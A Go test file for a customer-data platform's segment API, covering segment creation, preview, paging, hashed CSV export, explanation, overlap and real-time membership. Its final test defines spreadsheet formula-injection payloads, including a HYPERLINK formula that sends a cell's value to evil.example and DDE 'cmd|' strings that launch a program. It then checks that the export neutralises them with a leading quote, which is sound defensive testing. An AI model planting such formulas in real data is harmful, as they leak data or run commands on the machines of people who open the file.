package server_test

import (
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/touchbase/touchbase"
)

type segmentDoc struct {
	touchbase.Segment
	Count int `json:"count"`
}

// TestAPISegments walks the segment API as a marketer would: define,
// preview, page, export, explain, compare, change, refer, and delete.
func TestAPISegments(t *testing.T) {
	each(t, func(t *testing.T, e *env) {
		seed(t, e, e.write, "")
		tok := e.owner
		u1, u2, u3 := customerID(t, e, tok, "u1"), customerID(t, e, tok, "u2"), customerID(t, e, tok, "u3")

		var gold segmentDoc
		e.mustAPI(tok, "POST", "/segments", obj{"name": "gold", "text": `plan = "gold" or count("Order Completed") >= 1`}, 201).decode(t, &gold)
		if gold.Count != 1 || gold.Kind != touchbase.SegmentDynamic || gold.Text != `plan = "gold" or count("Order Completed") >= 1` || len(gold.Definition) == 0 {
			t.Errorf("created %+v", gold)
		}

		t.Run("errors", func(t *testing.T) {
			for _, tc := range []struct {
				name string
				body obj
				want string
			}{
				{"parse error with its position", obj{"name": "x", "text": "orders >= "}, "line 1, column 11"},
				{"type error", obj{"name": "x", "text": `orders > "many"`}, "orders"},
				{"both forms", obj{"name": "x", "text": "orders > 1", "definition": obj{"op": "is set", "left": obj{"field": "x"}}}, "not both"},
				{"unknown segment", obj{"name": "x", "text": `in segment "nope"`}, `"nope"`},
				{"taken", obj{"name": "gold", "text": "orders > 1"}, "exists"},
			} {
				t.Run(tc.name, func(t *testing.T) {
					r := e.api(tok, "POST", "/segments", tc.body)
					if r.status != 400 && r.status != 409 {
						t.Fatalf("status %d: %s", r.status, r.body)
					}
					if msg := r.errorBody(t).Message; !strings.Contains(msg, tc.want) {
						t.Errorf("message %q, want it to mention %q", msg, tc.want)
					}
				})
			}
		})

		t.Run("preview", func(t *testing.T) {
			var p struct {
				Count    int                  `json:"count"`
				Text     string               `json:"text"`
				Sample   []touchbase.Customer `json:"sample"`
				Warnings []string             `json:"warnings"`
			}
			e.mustAPI(tok, "POST", "/segments/preview", obj{"text": `plan in ("gold", "free") or fisrt_name is set`}, 200).decode(t, &p)
			if p.Count != 2 || len(p.Sample) != 2 {
				t.Errorf("preview: count %d, sample %d, want 2 and 2", p.Count, len(p.Sample))
			}
			if len(p.Warnings) != 1 || !strings.Contains(p.Warnings[0], `did you mean "first_name"`) {
				t.Errorf("warnings %q, want a suggestion of first_name", p.Warnings)
			}
		})

		t.Run("members paging", func(t *testing.T) {
			var all segmentDoc
			e.mustAPI(tok, "POST", "/segments", obj{"name": "everyone", "text": "events >= 0"}, 201).decode(t, &all)
			var got []int64
			cursor := ""
			for range 10 {
				var p page[touchbase.Customer]
				e.mustAPI(tok, "GET", fmt.Sprintf("/segments/%d/members?limit=2&cursor=%s", all.ID, cursor), nil, 200).decode(t, &p)
				for _, c := range p.Items {
					got = append(got, c.ID)
				}
				if p.Next == nil {
					break
				}
				cursor = *p.Next
			}
			if want := []int64{u1, u2, u3}; len(got) < 4 || !slices.IsSorted(got) || !containsAll(got, want) {
				t.Errorf("members %v: want every customer (%v and the anonymous one) once, ascending", got, want)
			}
		})

		t.Run("export", func(t *testing.T) {
			r := e.mustAPI(tok, "GET", fmt.Sprintf("/segments/%d/export?hashed=true", gold.ID), nil, 200)
			rows, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			sum := sha256.Sum256([]byte("alice@example.com"))
			want := [][]string{
				{"id", "user_id", "email", "phone", "email_sha256", "phone_sha256"},
				{fmt.Sprint(u1), "u1", "alice@example.com", "", hex.EncodeToString(sum[:]), ""},
			}
			if !slices.EqualFunc(rows, want, slices.Equal) {
				t.Errorf("export:\n%v\nwant\n%v", rows, want)
			}
		})

		t.Run("explain", func(t *testing.T) {
			var x struct {
				Holds    bool `json:"holds"`
				Children []struct {
					Holds  bool `json:"holds"`
					Values []struct {
						Operand string `json:"operand"`
						Value   any    `json:"value"`
					} `json:"values"`
				} `json:"children"`
			}
			e.mustAPI(tok, "GET", fmt.Sprintf("/segments/%d/explain/%d", gold.ID, u2), nil, 200).decode(t, &x)
			if x.Holds || len(x.Children) != 2 || x.Children[0].Values[0].Value != "free" || x.Children[1].Values[0].Value != 0.0 {
				t.Errorf("explain u2: %+v", x)
			}
		})

		t.Run("lists, overlap and references", func(t *testing.T) {
			var press segmentDoc
			e.mustAPI(tok, "POST", "/segments", obj{"name": "press", "kind": "static"}, 201).decode(t, &press)
			var res struct {
				Changed int      `json:"changed"`
				Unknown []string `json:"unknown"`
			}
			e.mustAPI(tok, "POST", fmt.Sprintf("/segments/%d/members", press.ID),
				obj{"emails": []string{"Alice@Example.com", "nobody@example.com"}, "csv": "user_id\nu2\n"}, 200).decode(t, &res)
			if res.Changed != 2 || !slices.Equal(res.Unknown, []string{"nobody@example.com"}) {
				t.Errorf("add members: %+v", res)
			}
			var ov map[string]int
			e.mustAPI(tok, "GET", fmt.Sprintf("/segments/%d/overlap/%d", gold.ID, press.ID), nil, 200).decode(t, &ov)
			if ov["a"] != 1 || ov["b"] != 2 || ov["both"] != 1 || ov["only_b"] != 1 {
				t.Errorf("overlap %v", ov)
			}
			var pressGold segmentDoc
			e.mustAPI(tok, "POST", "/segments", obj{"name": "press not gold", "text": `in segment "press" and not in segment "gold"`}, 201).decode(t, &pressGold)
			if pressGold.Count != 1 {
				t.Errorf("press not gold: %d members, want 1 (u2)", pressGold.Count)
			}
			// A cycle through an update is refused; so is deleting a segment in use.
			r := e.api(tok, "PATCH", fmt.Sprintf("/segments/%d", gold.ID), obj{"text": `in segment "press not gold"`})
			if r.status != 400 || !strings.Contains(r.errorBody(t).Message, "refers to itself") {
				t.Errorf("cycle: %d %s", r.status, r.body)
			}
			r = e.api(tok, "DELETE", fmt.Sprintf("/segments/%d", press.ID), nil)
			if r.status != 409 {
				t.Errorf("delete a segment in use: %d %s", r.status, r.body)
			}
			r = e.api(tok, "PATCH", fmt.Sprintf("/segments/%d", press.ID), obj{"name": "journalists"})
			if r.status != 409 {
				t.Errorf("rename a segment in use: %d %s", r.status, r.body)
			}
			var renamed segmentDoc
			e.mustAPI(tok, "PATCH", fmt.Sprintf("/segments/%d", pressGold.ID), obj{"name": "press only", "description": "not gold"}, 200).decode(t, &renamed)
			if renamed.Name != "press only" || renamed.Text != pressGold.Text || renamed.Count != 1 {
				t.Errorf("renamed: %+v", renamed)
			}
			e.mustAPI(tok, "DELETE", fmt.Sprintf("/segments/%d", pressGold.ID), nil, 204)
			e.mustAPI(tok, "DELETE", fmt.Sprintf("/segments/%d", press.ID), nil, 204)
		})

		t.Run("real time", func(t *testing.T) {
			// u3 orders: the segment takes them in as the event commits,
			// and their 360 lists it.
			e.mustSend("track", e.write, obj{"userId": "u3", "event": "Order Completed", "properties": obj{"order_id": "o9", "revenue": 9}})
			var segs struct {
				Segments []touchbase.Segment          `json:"segments"`
				Changes  []touchbase.MembershipChange `json:"changes"`
			}
			deadline := time.Now().Add(5 * time.Second)
			for {
				e.mustAPI(tok, "GET", fmt.Sprintf("/customers/%d/segments", u3), nil, 200).decode(t, &segs)
				if slices.ContainsFunc(segs.Segments, func(s touchbase.Segment) bool { return s.ID == gold.ID }) || time.Now().After(deadline) {
					break
				}
				time.Sleep(10 * time.Millisecond)
			}
			if !slices.ContainsFunc(segs.Segments, func(s touchbase.Segment) bool { return s.ID == gold.ID }) {
				t.Fatalf("u3's segments %+v: gold missing after their order", segs.Segments)
			}
			if len(segs.Changes) == 0 || segs.Changes[0].SegmentID != gold.ID || !segs.Changes[0].Entered {
				t.Errorf("u3's latest change %+v, want entering gold", segs.Changes)
			}
			var sizes struct {
				Items []touchbase.SegmentSize `json:"items"`
			}
			e.mustAPI(tok, "GET", fmt.Sprintf("/segments/%d/sizes", gold.ID), nil, 200).decode(t, &sizes)
			if len(sizes.Items) == 0 || sizes.Items[len(sizes.Items)-1].Size != 2 {
				t.Errorf("gold's sizes %+v, want the latest at 2", sizes.Items)
			}
		})

		t.Run("as of", func(t *testing.T) {
			var doc segmentDoc
			e.mustAPI(tok, "GET", fmt.Sprintf("/segments/%d?as_of=2000-01-01T00:00:00Z", gold.ID), nil, 200).decode(t, &doc)
			if doc.Count != 1 { // u1 by plan alone: no order existed in 2000
				t.Errorf("count as of 2000: %d, want 1", doc.Count)
			}
		})
	})
}

func containsAll(got, want []int64) bool {
	for _, w := range want {
		if !slices.Contains(got, w) {
			return false
		}
	}
	return true
}

// Cells a spreadsheet would run: a customer's identifiers are theirs to
// choose, so an export must write them as text.
const (
	formulaUserID = `=HYPERLINK("https://evil.example/?"&A2,"open")`
	formulaEmail  = `=cmd|'/ccalc'!a0@evil.example`
	formulaUser2  = `@SUM(1+1)*cmd|'/Ccalc'!A0`
	e164Phone     = "+491701234567"
)

// TestAPISegmentExportFormulas exports customers whose user id and email
// are formulas: each such cell gets a leading quote, an E.164 phone stays
// as it is, and the hashes are of the stored values.
func TestAPISegmentExportFormulas(t *testing.T) {
	each(t, func(t *testing.T, e *env) {
		e.mustSend("batch", e.write, obj{"batch": []any{
			obj{"type": "identify", "userId": formulaUserID, "traits": obj{"email": formulaEmail, "plan": "evil"}},
			obj{"type": "identify", "userId": formulaUser2, "traits": obj{"phone": e164Phone, "plan": "evil"}},
		}})
		id1, id2 := customerID(t, e, e.owner, formulaUserID), customerID(t, e, e.owner, formulaUser2)
		var seg segmentDoc
		e.mustAPI(e.owner, "POST", "/segments", obj{"name": "evil", "text": `plan = "evil"`}, 201).decode(t, &seg)
		r := e.mustAPI(e.owner, "GET", fmt.Sprintf("/segments/%d/export?hashed=true", seg.ID), nil, 200)
		rows, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		email, phone := sha256.Sum256([]byte(formulaEmail)), sha256.Sum256([]byte(e164Phone))
		want := [][]string{
			{"id", "user_id", "email", "phone", "email_sha256", "phone_sha256"},
			{fmt.Sprint(id1), "'" + formulaUserID, "'" + formulaEmail, "", hex.EncodeToString(email[:]), ""},
			{fmt.Sprint(id2), "'" + formulaUser2, "", e164Phone, "", hex.EncodeToString(phone[:])},
		}
		if !slices.EqualFunc(rows, want, slices.Equal) {
			t.Errorf("export:\n%q\nwant\n%q", rows, want)
		}
	})
}
